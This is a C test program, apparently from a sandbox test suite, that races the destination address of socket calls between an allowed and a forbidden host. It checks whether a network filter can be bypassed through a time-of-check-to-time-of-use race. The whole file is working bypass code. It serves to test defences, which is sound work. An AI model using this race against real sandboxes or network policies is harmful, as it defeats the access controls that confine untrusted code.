/*
 * addr_swap HOW WHO GOOD BAD PORT: the address in a socket call changes all the time between GOOD and BAD while the call is made
 * (ATTACKS A5, A6). An echo server answers at PORT of both. Got: BAD's answer.
 *
 *   HOW  connect   a stream, blocking
 *        start     a stream, not blocking
 *        sendto    a datagram
 *        sendmsg   a datagram whose msghdr's name pointer changes
 *        sendmmsg  the second of two
 *        fastopen  a stream by sendto with MSG_FASTOPEN
 *   WHO  thread, or process (the address lies in shared memory)
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/mman.h>
#include <sys/socket.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

struct shared {
	struct sockaddr_in to, good, bad;
	struct msghdr hdr;
	struct mmsghdr many[2];
	struct iovec iov;
	char byte;
};

static struct shared *m;

static void *flip(void *unused)
{
	for (unsigned int n = 0; !atomic_load(&attack_over); n++) {
		struct sockaddr_in *to = n & 1 ? &m->bad : &m->good;

		__atomic_store_n(&m->to.sin_addr.s_addr, to->sin_addr.s_addr, __ATOMIC_RELAXED);
		__atomic_store_n(&m->hdr.msg_name, (void *)to, __ATOMIC_RELAXED);
		__atomic_store_n(&m->many[1].msg_hdr.msg_name, (void *)to, __ATOMIC_RELAXED);
		for (volatile unsigned int i = 0; i < (n * 7919) % 200; i++)
			;
	}
	return unused;
}

static bool answers(int fd, bool stream)
{
	struct pollfd p = {.fd = fd, .events = POLLOUT};
	struct sockaddr_in from = {.sin_port = 0};
	socklen_t len = sizeof(from);
	char c;

	if (stream && (poll(&p, 1, 1000) <= 0 || send(fd, "x", 1, MSG_NOSIGNAL) != 1))
		return false;
	p.events = POLLIN;
	if (poll(&p, 1, stream ? 1000 : 20) <= 0 || recvfrom(fd, &c, 1, MSG_DONTWAIT, (struct sockaddr *)&from, &len) != 1)
		return false;
	len = sizeof(from);
	if (stream && getpeername(fd, (struct sockaddr *)&from, &len) < 0)
		return false;
	return from.sin_addr.s_addr == m->bad.sin_addr.s_addr;
}

static bool attempt(const char *how)
{
	bool stream = strcmp(how, "connect") == 0 || strcmp(how, "start") == 0 || strcmp(how, "fastopen") == 0, got;
	int type = stream ? SOCK_STREAM : SOCK_DGRAM, fd;

	fd = socket(AF_INET, type | (strcmp(how, "start") == 0 ? SOCK_NONBLOCK : 0), 0);
	if (fd < 0)
		die("socket");
	if (strcmp(how, "connect") == 0 || strcmp(how, "start") == 0)
		(void)connect(fd, (struct sockaddr *)&m->to, sizeof(m->to));
	else if (strcmp(how, "sendto") == 0)
		(void)sendto(fd, "x", 1, 0, (struct sockaddr *)&m->to, sizeof(m->to));
	else if (strcmp(how, "sendmsg") == 0)
		(void)sendmsg(fd, &m->hdr, 0);
	else if (strcmp(how, "sendmmsg") == 0)
		(void)sendmmsg(fd, m->many, 2, 0);
	else if (sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&m->to, sizeof(m->to)) < 0)
		(void)connect(fd, (struct sockaddr *)&m->to, sizeof(m->to));
	got = answers(fd, stream);
	close(fd);
	return got;
}

static void address(const char *text, uint16_t port, struct sockaddr_in *ret_in)
{
	*ret_in = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(port)};
	if (inet_pton(AF_INET, text, &ret_in->sin_addr) != 1)
		die("address");
}

int main(int argc, char **argv)
{
	double end = attack_end();
	pid_t other = 0;
	bool got = false;

	if (argc != 6)
		die("addr_swap HOW WHO GOOD BAD PORT");
	m = mmap(NULL, sizeof(*m), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (m == MAP_FAILED)
		die("mmap");
	address(argv[3], (uint16_t)atoi(argv[5]), &m->good);
	address(argv[4], (uint16_t)atoi(argv[5]), &m->bad);
	m->to = m->good;
	m->byte = 'x';
	m->iov = (struct iovec){&m->byte, 1};
	m->hdr = (struct msghdr){.msg_name = &m->good, .msg_namelen = sizeof(m->good), .msg_iov = &m->iov, .msg_iovlen = 1};
	m->many[0].msg_hdr = m->many[1].msg_hdr = m->hdr;
	if (strcmp(argv[2], "process") == 0) {
		other = fork();
		if (other == 0)
			flip(NULL);
	} else {
		attack_thread(flip, NULL);
	}
	while (!got && attack_clock() < end)
		got = attempt(argv[1]);
	if (other > 0)
		kill(other, SIGKILL);
	attack_exit(got);
}
